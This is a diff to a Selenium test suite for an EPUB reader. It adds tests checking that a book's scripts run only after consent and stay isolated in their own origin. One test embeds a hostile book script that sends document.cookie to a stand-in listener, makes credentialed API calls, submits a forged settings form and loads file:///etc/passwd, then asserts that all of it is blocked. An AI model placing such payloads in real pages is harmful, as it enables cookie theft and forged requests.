@@ -8,14 +8,16 @@ import os
 import tempfile
 import time
 import unittest
+import urllib.error
 import urllib.parse
 import urllib.request
 
+from selenium.common.exceptions import NoSuchFrameException, StaleElementReferenceException, TimeoutException
 from selenium.webdriver.common.by import By
 from selenium.webdriver.common.keys import Keys
 
 import epub_fixtures
-from rig import BrowserTestCase, ROOT
+from rig import BrowserTestCase, Listener, ROOT
 
 CORPUS = os.path.join(os.path.dirname(ROOT), "shared", "corpus", "epub")
 # Corpus books by what they exercise: EPUB 2, EPUB 3, fixed layout (right to left), right to left, vertical.
@@ -52,10 +54,22 @@ class ReaderTestCase(BrowserTestCase):
     def reader(self, expression):
         return self.driver.execute_script(f"const r = window.shelfReader; return {expression};")
 
+    def in_book(self, script, *args):
+        """Runs `script` in the book's page shown (another origin than the app's: the app cannot reach into it)."""
+        frame = self.find("#viewport iframe:not(.loading)")
+        # A page replaced while the script runs (a turn, a new chapter) never answers: give up soon and look again.
+        self.driver.set_script_timeout(3)
+        try:
+            self.driver.switch_to.frame(frame)
+            return self.driver.execute_script(script, *args)
+        except (NoSuchFrameException, StaleElementReferenceException, TimeoutException):
+            return None
+        finally:
+            self.driver.set_script_timeout(30)
+            self.driver.switch_to.default_content()
+
     def frame_style(self, selector, prop):
-        return self.driver.execute_script(
-            "const d = window.shelfReader.view.document; const e = d.querySelector(arguments[0]);"
-            "return d.defaultView.getComputedStyle(e).getPropertyValue(arguments[1]);", selector, prop)
+        return self.in_book("const e = document.querySelector(arguments[0]); return getComputedStyle(e).getPropertyValue(arguments[1]);", selector, prop)
 
     def place(self, book):
         answer = self.server.shelf("read", book, "--json")
@@ -74,7 +88,7 @@ class OpeningTests(ReaderTestCase):
         book = self.add_fixture("reflowable")
         self.open_reader(book)
         self.assertEqual(self.reader("r.view.href"), "OEBPS/chapter1.xhtml")
-        self.assertIn("Chapter One", self.reader("r.view.document.body.textContent"))
+        self.assertIn("Chapter One", self.in_book("return document.body.textContent"))
         self.assertEqual(self.place(book)["locator"]["href"], "OEBPS/chapter1.xhtml", "the command line agrees")
         self.assertRegex(self.counter(), r"^Page \d+ of \d+$")
         self.check_page("reader-fixture-day")
@@ -115,7 +129,7 @@ class LayoutTests(ReaderTestCase):
         self.reader("document.getElementById('book').focus()")
         self.press(Keys.ARROW_LEFT)
         self.wait_for(lambda d: self.reader("r.view.page") == 1)
-        self.assertLess(self.reader("r.view.scroller.scrollLeft"), 0, "the columns run to the left")
+        self.assertLess(self.in_book("return document.scrollingElement.scrollLeft"), 0, "the columns run to the left")
         self.press(Keys.ARROW_RIGHT)
         self.wait_for(lambda d: self.reader("r.view.page") == 0)
 
@@ -128,7 +142,7 @@ class LayoutTests(ReaderTestCase):
         self.reader("document.getElementById('book').focus()")
         self.press(Keys.ARROW_LEFT)
         self.wait_for(lambda d: self.reader("r.view.page") == 1)
-        self.assertGreater(self.reader("r.view.scroller.scrollTop"), 0, "vertical pages follow each other downwards")
+        self.assertGreater(self.in_book("return document.scrollingElement.scrollTop"), 0, "vertical pages follow each other downwards")
         self.check_page("reader-vertical")
 
 
@@ -270,9 +284,7 @@ class NavigationTests(ReaderTestCase):
         nested[0].click()
         self.wait_for(lambda d: not d.find_elements(By.CSS_SELECTOR, "#toc[open]"))
         # The page shown holds the heading the fragment names.
-        visible = self.driver.execute_script(
-            "const v = window.shelfReader.view; const r = v.document.getElementById('storm').getBoundingClientRect();"
-            "return r.left >= 0 && r.right <= v.width;")
+        visible = self.in_book("const r = document.getElementById('storm').getBoundingClientRect(); return r.left >= 0 && r.right <= innerWidth;")
         self.assertTrue(visible)
         self.assertGreater(self.reader("r.view.page"), 0)
         self.assertEqual(self.focused().get_attribute("id"), "open-toc", "focus returns to the control that opened the panel")
@@ -313,9 +325,9 @@ class NavigationTests(ReaderTestCase):
         self.check_page("reader-search")
         hits[4].find_element(By.TAG_NAME, "a").click()
         self.wait_for(lambda d: "Hit 5 of 20" in self.polite())
-        highlighted = self.driver.execute_script(
-            "const v = window.shelfReader.view; const h = v.window.CSS.highlights.get('shelf-hit'); if (!h) return null;"
-            "const range = [...h][0]; const r = range.getBoundingClientRect(); return [range.toString(), r.left >= 0 && r.right <= v.width];")
+        highlighted = self.in_book(
+            "const h = CSS.highlights.get('shelf-hit'); if (!h) return null;"
+            "const range = [...h][0]; const r = range.getBoundingClientRect(); return [range.toString(), r.left >= 0 && r.right <= innerWidth];")
         self.assertIn("storm came in", highlighted[0].lower())
         self.assertTrue(highlighted[1], "the hit is on the page shown")
 
@@ -332,24 +344,119 @@ class NavigationTests(ReaderTestCase):
 
 
 class SecurityTests(ReaderTestCase):
-    def test_a_books_script_never_runs_nor_reaches_the_api_or_the_cookie(self):
+    def test_a_books_script_runs_only_after_consent_in_its_own_origin(self):
         book = self.add_fixture("reflowable")
         self.open_reader(book)
+        # Asked, not answered: the scripted chapter shows with its script off.
+        self.assertTrue(self.find("#scripts-ask").is_displayed())
         time.sleep(1)  # time for a script to have run, had it been allowed to
-        marks = self.driver.execute_script(
-            "const d = window.shelfReader.view.document; return [d.title, d.body.getAttribute('data-script'),"
-            "d.documentElement.getAttribute('data-api'), d.documentElement.getAttribute('data-cookie'),"
-            "window.shelfReader.view.frame.getAttribute('sandbox')]")
-        self.assertEqual(marks, ["Chapter One", None, None, None, "allow-same-origin"])
-        # The server sends the chapter with a sandbox that allows no script, whatever frame shows it.
+        marks = "return [document.title, document.body.getAttribute('data-script'), location.origin]"
+        title, ran, origin = self.in_book(marks)
+        self.assertEqual([title, ran], ["Chapter One", None])
+        self.assertNotEqual(origin, self.server.url, "the book has an origin of its own")
+        self.assertRegex(origin, r"^http://b[0-9a-f]{16}\.localhost:\d+$")
         base = self.reader("r.base")
-        request = urllib.request.Request(self.server.url + base + "OEBPS/chapter1.xhtml")
-        with urllib.request.urlopen(request, timeout=30) as answer:
+        with urllib.request.urlopen(base + "OEBPS/chapter1.xhtml", timeout=30) as answer:
             policy = answer.headers["Content-Security-Policy"]
-        self.assertIn("sandbox allow-same-origin", policy)
-        self.assertNotIn("allow-scripts", policy)
-        self.assertNotIn("script-src", policy)
-        self.assertIn("default-src 'none'", policy)
+        self.assertIn("script-src 'nonce-", policy, "the reader's script alone")
+        self.assertNotIn("unsafe-inline' 'self'", policy)
+        self.assertIn("connect-src 'self'", policy)
+        # Allowed: the chapter's own script runs and changes its page (it failed before: no book script ever ran).
+        self.find("#scripts-allow").click()
+        self.wait_for(lambda d: self.in_book("return document.title") == "SCRIPT RAN",
+                      message="the book's script running after consent")
+        # Its fetch of /api/status reached its own origin, which has no API.
+        self.wait_for(lambda d: self.in_book("return document.documentElement.getAttribute('data-api')") == "404")
+        self.assertEqual(self.in_book("return document.documentElement.getAttribute('data-cookie')"), "none")
+        # Remembered: the next opening asks nothing and runs it; the Display panel turns it off.
+        self.open_reader(book)
+        self.assertFalse(self.find("#scripts-ask").is_displayed())
+        self.wait_for(lambda d: self.in_book("return document.title") == "SCRIPT RAN")
+        self.find("#open-display").click()
+        self.find("#scripts-allowed").click()
+        self.wait_for(lambda d: self.in_book("return document.title") == "Chapter One", message="the script off again")
+
+
+class BookOriginTests(ReaderTestCase):
+    """Each book in an origin of its own: its storage kept and its own, its scripts reaching nothing of the patron's.
+    The evidence is the server's, a loopback listener's and the app's state, never the book's own words."""
+
+    COUNTER = ("const n = Number(localStorage.getItem('visits') || 0) + 1; localStorage.setItem('visits', String(n));"
+               "localStorage.setItem('mark-' + document.title.split(' ').pop(), '1');"
+               "document.title = 'visits ' + n + ' keys ' + Object.keys(localStorage).sort().join(',');")
+
+    def scripted_book(self, name, script, body="<p>An interactive page.</p>"):
+        path = os.path.join(self.folder, f"{name}.epub")
+        number = sum(map(ord, name))  # the same at every run
+        epub_fixtures.scripted(path, f"urn:uuid:0b1e5c1a-0000-4000-8000-{number:012d}", f"Book {name}", script, body)
+        return self.add(path)
+
+    def title_in_book(self):
+        return self.in_book("return document.title") or ""
+
+    def allow_scripts(self):
+        self.find("#scripts-allow").click()
+        self.wait_for(lambda d: not self.find("#scripts-ask").is_displayed())
+
+    def test_a_books_storage_survives_reopening_and_a_restart_and_is_its_own(self):
+        first, second = self.scripted_book("A", self.COUNTER), self.scripted_book("B", self.COUNTER)
+        self.open_reader(first)
+        self.allow_scripts()
+        self.wait_for(lambda d: self.title_in_book().startswith("visits 1 "), message="the first visit counted")
+        self.open_reader(first)
+        self.wait_for(lambda d: self.title_in_book().startswith("visits 2 "), message="the count kept on reopening")
+        # `shelf serve` again on the same home: the same port, so the same origins and the same storage.
+        port = self.server.port
+        self.server.restart()
+        self.assertEqual(self.server.port, port, "the port is kept from one launch to the next")
+        self.driver.get(self.server.launch)
+        self.wait_for(lambda d: d.current_url.startswith(self.server.url + "/"))
+        self.open_reader(first)
+        self.wait_for(lambda d: self.title_in_book().startswith("visits 3 "), message="the count kept across a restart")
+        self.assertIn("mark-A", self.title_in_book())
+        # Another book starts with a storage of its own, where the first book's marks are not.
+        self.open_reader(second)
+        self.allow_scripts()
+        self.wait_for(lambda d: self.title_in_book() == "visits 1 keys mark-B,visits", message=f"B's own storage: {self.title_in_book()}")
+
+    def test_a_hostile_books_scripts_reach_nothing_of_the_patrons(self):
+        listener = Listener()
+        self.addCleanup(listener.stop)
+        away = f"http://127.0.0.1:{listener.port}"
+        app = self.server.url
+        script = f"""
+            const away = '{away}', app = '{app}';
+            const tryIt = (f) => {{ try {{ f(); }} catch (e) {{}} }};
+            fetch('/api/shelf').catch(() => {{}});
+            fetch(app + '/api/shelf', {{credentials: 'include'}}).catch(() => {{}});
+            fetch(app + '/api/reader/settings', {{method: 'POST', credentials: 'include', body: '{{"theme": "night"}}'}}).catch(() => {{}});
+            fetch(away + '/fetch?cookie=' + encodeURIComponent(document.cookie)).catch(() => {{}});
+            tryIt(() => {{ top.location = away + '/top'; }});
+            tryIt(() => {{ window.open(away + '/popup'); }});
+            new Image().src = away + '/image';
+            const s = document.createElement('script'); s.src = away + '/script'; document.head.append(s);
+            document.addEventListener('DOMContentLoaded', () => {{
+              const form = document.createElement('form'); form.method = 'POST'; form.action = app + '/api/reader/settings';
+              const input = document.createElement('input'); input.name = 'theme'; input.value = 'night'; form.append(input);
+              document.body.append(form);
+              setTimeout(() => tryIt(() => form.submit()), 300);
+            }});
+            document.title = 'hostile ran';"""
+        body = (f'<p>Hostile.</p><img src="{away}/markup-image" alt=""/><img src="file:///etc/passwd" alt=""/>'
+                f'<link rel="stylesheet" href="{away}/markup-style"/><iframe src="{app}/" title="the app"></iframe>')
+        before = self.api("GET", "/api/shelf", check=False)
+        book = self.scripted_book("hostile", script, body)
+        settings = self.api("GET", "/api/reader/settings?book=" + urllib.parse.quote(book), check=False)
+        self.open_reader(book)
+        reader_url = self.driver.current_url
+        self.allow_scripts()
+        self.wait_for(lambda d: self.title_in_book() == "hostile ran", message="the hostile book's scripts running")
+        time.sleep(2)  # time for what it tried to arrive, had it been let out
+        self.assertEqual(listener.requests, [], "the stand-in remote listener received nothing")
+        self.assertEqual(self.driver.current_url, reader_url, "the app's window stayed where it was")
+        self.assertEqual(len(self.driver.window_handles), 1, "no window opened")
+        self.assertEqual(self.api("GET", "/api/reader/settings?book=" + urllib.parse.quote(book), check=False), settings)
+        self.assertEqual(self.api("GET", "/api/shelf", check=False)["total"], before["total"] + 1)
 
 
 class KeyboardTests(ReaderTestCase):
@@ -391,14 +498,17 @@ class FrameTests(ReaderTestCase):
         # before: the book's policy allowed no frame or object at all, so each showed a broken frame.
         book = self.add_fixture("framed")
         self.open_reader(book)
-        seen = lambda script: self.driver.execute_script("const d = window.shelfReader.view.document; " + script)
-        self.wait_for(lambda d: seen("const f = d.getElementById('own-frame'); return f.contentDocument && "
+        seen = lambda script: self.in_book(script)
+        self.wait_for(lambda d: seen("const f = document.getElementById('own-frame'); return f.contentDocument && "
                                      "f.contentDocument.body && f.contentDocument.body.textContent") == "FIGURE ONE OF THE BOOK",
                       message="the book's page in its iframe")
-        self.wait_for(lambda d: seen("const o = d.getElementById('own-object').contentDocument; return !!(o && o.getElementById('svg-text'))"),
+        self.wait_for(lambda d: seen("const o = document.getElementById('own-object').contentDocument; return !!(o && o.getElementById('svg-text'))"),
                       message="the book's picture in its object")
-        self.wait_for(lambda d: seen("const e = d.getElementById('own-embed').getSVGDocument(); return !!(e && e.getElementById('svg-text'))"),
+        self.wait_for(lambda d: seen("const e = document.getElementById('own-embed').getSVGDocument(); return !!(e && e.getElementById('svg-text'))"),
                       message="the book's picture in its embed")
-        # The app's API in a frame of the book: the server refuses it (not the app's own call), as it says.
-        self.wait_for(lambda d: any("GET /api/status" in line for line in self.server.refusals()),
-                      message=f"the server refusing the book's frame of the API: {self.server.refusals()}")
+        # The book's origin serves that book alone: /api there is no API (and the app's is another origin).
+        try:
+            urllib.request.urlopen(self.reader("r.base") + "api/status", timeout=30)
+            self.fail("the book's origin answered /api/status")
+        except urllib.error.HTTPError as error:
+            self.assertEqual(error.code, 404)
